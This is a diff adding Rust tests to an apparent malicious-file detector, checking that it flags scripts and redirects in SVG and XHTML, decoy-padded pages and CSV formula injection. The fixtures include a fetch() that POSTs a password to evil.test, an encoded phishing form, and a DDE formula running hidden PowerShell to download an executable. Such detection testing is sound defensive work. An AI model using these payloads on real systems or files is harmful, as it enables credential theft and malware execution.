@@ -172,6 +172,183 @@ fn a_script_in_a_picture_is_told() {
 }
 
 #[test]
+fn pages_that_are_xml_are_read_as_browsers_do() {
+    const SVG: &str = "http://www.w3.org/2000/svg";
+    const HTML: &str = "http://www.w3.org/1999/xhtml";
+    // Name, source, whether a script is in it, where it leads.
+    let script = "location='https://go.test/'";
+    for (name, source, format) in [
+        (
+            "a.svg",
+            format!("<s:svg xmlns:s='{SVG}'><s:script>{script}</s:script></s:svg>"),
+            "svg",
+        ),
+        (
+            "a.svg",
+            format!("<svg xmlns='{SVG}'><script>loc&#97;tion='https://go.test/'</script></svg>"),
+            "svg",
+        ),
+        (
+            "a.svg",
+            format!(
+                "<!DOCTYPE svg [<!ENTITY s \"{script}\">]><svg xmlns='{SVG}'><script>&s;</script></svg>"
+            ),
+            "svg",
+        ),
+        (
+            "a.svg",
+            format!("<svg xmlns='{SVG}'><rect onpointerenter=\"{script}\"/></svg>"),
+            "svg",
+        ),
+        (
+            "a.svg",
+            format!(
+                "<svg xmlns='{SVG}'><a><set attributeName='href' to=\"javascript:{script}\"/></a></svg>"
+            ),
+            "svg",
+        ),
+        (
+            "a.svg",
+            format!(
+                "<!--{}--><svg xmlns='{SVG}'><script>{script}</script></svg>",
+                " ".repeat(9_000)
+            ),
+            "svg",
+        ),
+        (
+            "a.png",
+            format!("<?xml version='1.0'?><svg xmlns='{SVG}'><script>{script}</script></svg>"),
+            "svg",
+        ),
+        (
+            "a.xml",
+            format!(
+                "<?xml version='1.0'?><h:html xmlns:h='{HTML}'><h:script>{script}</h:script></h:html>"
+            ),
+            "xhtml",
+        ),
+        (
+            "a.xml",
+            format!("<?xml version='1.0'?><a><b xmlns='{HTML}'><script>{script}</script></b></a>"),
+            "xhtml",
+        ),
+        (
+            "a.xhtml",
+            format!("<h:html xmlns:h='{HTML}'><h:body onload=\"{script}\"/></h:html>"),
+            "xhtml",
+        ),
+    ] {
+        let file = first(name, source.as_bytes());
+        assert_eq!(file.format, format, "{source}");
+        assert_eq!(
+            hrefs(&file, LinkSource::Fetched),
+            ["https://go.test/"],
+            "{source}"
+        );
+        assert_eq!(
+            has(&file, IndicatorKind::Script),
+            format == "svg",
+            "{source}"
+        );
+        assert!(has(&file, IndicatorKind::Redirects), "{source}");
+        assert_eq!(file.unread, [], "{source}");
+    }
+    for link in [
+        format!(
+            "<!DOCTYPE svg [<!ENTITY u 'https://to.test/'>]><svg xmlns='{SVG}'><a href='&u;'>x</a></svg>"
+        ),
+        format!(
+            "<svg xmlns='{SVG}'><a><animate attributeName='href' values='https://to.test/'/></a></svg>"
+        ),
+        format!(
+            "<s:svg xmlns:s='{SVG}' xmlns:x='y'><s:a x:href='https://to.test/'>x</s:a></s:svg>"
+        ),
+    ] {
+        let file = first("a.svg", link.as_bytes());
+        assert_eq!(
+            hrefs(&file, LinkSource::Link),
+            ["https://to.test/"],
+            "{link}"
+        );
+        assert_eq!(file.indicators, [], "{link}");
+    }
+    let data = "<?xml version='1.0'?><?xml-stylesheet href='kousei.xsl'?><order><script>1</script></order>";
+    let file = first("a.xml", data.as_bytes());
+    assert_eq!(
+        (file.format.as_str(), file.indicators.as_slice()),
+        ("xml", &[][..])
+    );
+}
+
+#[test]
+fn nothing_is_hidden_by_crowds_on_a_page() {
+    let page = |decoy: &str, most: usize, evil: &str| {
+        let source = format!(
+            "<html><body><p>x</p>{}{evil}</body></html>",
+            decoy.repeat(most)
+        );
+        first("a.html", source.as_bytes())
+    };
+    let file = page(
+        "<script src='a.js'></script>",
+        300,
+        "<script src = 'https://evil.test/a.js'></script>",
+    );
+    assert_eq!(
+        quote(&file, IndicatorKind::LoadsScript),
+        "https://evil.test/a.js"
+    );
+    let file = page(
+        "<script>location.href = a;</script>",
+        300,
+        "<script>location.href = 'https://evil.test/'</script>",
+    );
+    assert_eq!(quote(&file, IndicatorKind::Redirects), "https://evil.test/");
+    let file = page(
+        "<p onclick='a()'>",
+        300,
+        "<p onclick=\"location='https://evil.test/'\">",
+    );
+    assert_eq!(quote(&file, IndicatorKind::Redirects), "https://evil.test/");
+    // "<b>nothing of note</b>" in base64, then a form.
+    let decoy = "<script>a('PGI+bm90aGluZyBvZiBub3RlIGF0IGFsbCBpcyBoZXJlPC9iPg==')</script>";
+    let form = "<script>a('PGZvcm0gYWN0aW9uPSJodHRwczovL2V2aWwudGVzdC8iPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4=')</script>";
+    let file = page(decoy, 400, form);
+    assert!(has(&file, IndicatorKind::PasswordField));
+    assert_eq!(file.unread, []);
+    let urls: String = (0..300)
+        .map(|n| format!("a{n}.png https://www.w3.org/{n} "))
+        .collect();
+    let sends = format!(
+        "<script>/* {urls} */ fetch('https://evil.test/', {{method: 'POST', body: password.value}})</script>"
+    );
+    let file = page("", 0, &sends);
+    assert_eq!(
+        quote(&file, IndicatorKind::ForeignForm),
+        "https://evil.test/"
+    );
+}
+
+#[test]
+fn tables_with_commands_are_tables() {
+    let dde = "=cmd|'/c powershell -w hidden iwr https://evil.test/a -o a.exe'!A0";
+    for table in [
+        format!("name,price\r\nbolt,12\r\n{dde},1\r\n"),
+        format!("{dde}\r\n"),
+        "a;b\r\n1;\"@SUM(1+9)*cmd|' /C calc'!A0\"\r\n".to_owned(),
+        format!("={}+cmd|' /C calc'!A0\r\n", "1+".repeat(2_000)),
+    ] {
+        let file = first("orders.csv", table.as_bytes());
+        assert_eq!(file.format, "csv");
+        assert!(has(&file, IndicatorKind::Dde), "{table}");
+    }
+    assert_eq!(
+        first("orders.csv", b"a,b\r\n-1,+2\r\n=A1+B1,c|d\r\n").indicators,
+        []
+    );
+}
+
+#[test]
 fn a_saved_page_is_read_part_by_part() {
     let mht = format!(
         "From: <Saved by Blink>\r\nSnapshot-Content-Location: file:///a\r\nSubject: x\r\nMIME-Version: 1.0\r\n\
